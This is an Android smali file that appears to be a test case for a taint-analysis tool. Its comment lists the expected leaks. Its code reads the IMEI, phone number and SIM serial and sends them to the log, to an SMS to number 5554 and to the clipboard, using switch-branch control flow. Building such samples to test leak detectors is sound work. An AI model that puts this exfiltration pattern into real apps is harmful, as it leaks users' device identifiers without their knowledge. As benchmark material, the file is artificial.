.class public Lcom/piflow/families/switches/Main;
.super Landroid/app/Activity;

# Each branch of a switch reads its own source and sends it at a sink of its own; after the
# branches join, one sink gets what any branch read. A switch on a String, as javac compiles it
# (a sparse-switch on hashCode, equals, then a packed-switch on the case index): the IMEI branch
# logs (Main.onString log carries device.imei only), the phone-number branch texts it
# (Main.onString sms: phone number only), the join writes to the clipboard (both). A switch on
# an int: the IMEI branch logs (Main.onInt log: IMEI only), the SIM serial branch texts it
# (Main.onInt sms: SIM serial only), the join writes to the clipboard (Main.onInt clipboard:
# both).

.method public constructor <init>()V
    .locals 0
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .locals 2
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    invoke-virtual {p0}, Landroid/app/Activity;->getIntent()Landroid/content/Intent;
    move-result-object v0
    const-string v1, "cmd"
    invoke-virtual {v0, v1}, Landroid/content/Intent;->getStringExtra(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v1
    invoke-direct {p0, v1}, Lcom/piflow/families/switches/Main;->onString(Ljava/lang/String;)V
    invoke-virtual {v1}, Ljava/lang/String;->length()I
    move-result v1
    invoke-direct {p0, v1}, Lcom/piflow/families/switches/Main;->onInt(I)V
    return-void
.end method

.method private phone()Landroid/telephony/TelephonyManager;
    .locals 1
    const-string v0, "phone"
    invoke-virtual {p0, v0}, Landroid/app/Activity;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/telephony/TelephonyManager;
    return-object v0
.end method

.method private onString(Ljava/lang/String;)V
    .locals 9
    const/4 v0, -0x1
    invoke-virtual {p1}, Ljava/lang/String;->hashCode()I
    move-result v1
    sparse-switch v1, :hashes
    goto :pick
    :hash_imei
    const-string v2, "imei"
    invoke-virtual {p1, v2}, Ljava/lang/String;->equals(Ljava/lang/Object;)Z
    move-result v2
    if-eqz v2, :pick
    const/4 v0, 0x0
    goto :pick
    :hash_number
    const-string v2, "number"
    invoke-virtual {p1, v2}, Ljava/lang/String;->equals(Ljava/lang/Object;)Z
    move-result v2
    if-eqz v2, :pick
    const/4 v0, 0x1
    :pick
    const-string v3, "none"
    packed-switch v0, :cases
    goto :join
    :case_imei
    invoke-direct {p0}, Lcom/piflow/families/switches/Main;->phone()Landroid/telephony/TelephonyManager;
    move-result-object v4
    invoke-virtual {v4}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v3
    const-string v5, "t"
    invoke-static {v5, v3}, Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I
    goto :join
    :case_number
    invoke-direct {p0}, Lcom/piflow/families/switches/Main;->phone()Landroid/telephony/TelephonyManager;
    move-result-object v4
    invoke-virtual {v4}, Landroid/telephony/TelephonyManager;->getLine1Number()Ljava/lang/String;
    move-result-object v3
    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
    move-result-object v4
    const-string v5, "5554"
    const/4 v6, 0x0
    move-object v7, v3
    const/4 v8, 0x0
    invoke-virtual/range {v4 .. v8}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
    :join
    const-string v4, "clipboard"
    invoke-virtual {p0, v4}, Landroid/app/Activity;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v4
    check-cast v4, Landroid/content/ClipboardManager;
    const-string v5, "t"
    invoke-static {v5, v3}, Landroid/content/ClipData;->newPlainText(Ljava/lang/CharSequence;Ljava/lang/CharSequence;)Landroid/content/ClipData;
    move-result-object v5
    invoke-virtual {v4, v5}, Landroid/content/ClipboardManager;->setPrimaryClip(Landroid/content/ClipData;)V
    return-void

    :hashes
    .sparse-switch
        -0x3da724b7 -> :hash_number
        0x3160c8 -> :hash_imei
    .end sparse-switch

    :cases
    .packed-switch 0x0
        :case_imei
        :case_number
    .end packed-switch
.end method

.method private onInt(I)V
    .locals 9
    const-string v3, "none"
    sparse-switch p1, :keys
    goto :join
    :key_imei
    invoke-direct {p0}, Lcom/piflow/families/switches/Main;->phone()Landroid/telephony/TelephonyManager;
    move-result-object v4
    invoke-virtual {v4}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v3
    const-string v5, "t"
    invoke-static {v5, v3}, Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I
    goto :join
    :key_serial
    invoke-direct {p0}, Lcom/piflow/families/switches/Main;->phone()Landroid/telephony/TelephonyManager;
    move-result-object v4
    invoke-virtual {v4}, Landroid/telephony/TelephonyManager;->getSimSerialNumber()Ljava/lang/String;
    move-result-object v3
    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
    move-result-object v4
    const-string v5, "5554"
    const/4 v6, 0x0
    move-object v7, v3
    const/4 v8, 0x0
    invoke-virtual/range {v4 .. v8}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
    :join
    const-string v4, "clipboard"
    invoke-virtual {p0, v4}, Landroid/app/Activity;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v4
    check-cast v4, Landroid/content/ClipboardManager;
    const-string v5, "t"
    invoke-static {v5, v3}, Landroid/content/ClipData;->newPlainText(Ljava/lang/CharSequence;Ljava/lang/CharSequence;)Landroid/content/ClipData;
    move-result-object v5
    invoke-virtual {v4, v5}, Landroid/content/ClipboardManager;->setPrimaryClip(Landroid/content/ClipData;)V
    return-void

    :keys
    .sparse-switch
        0x7 -> :key_imei
        0x2a -> :key_serial
    .end sparse-switch
.end method
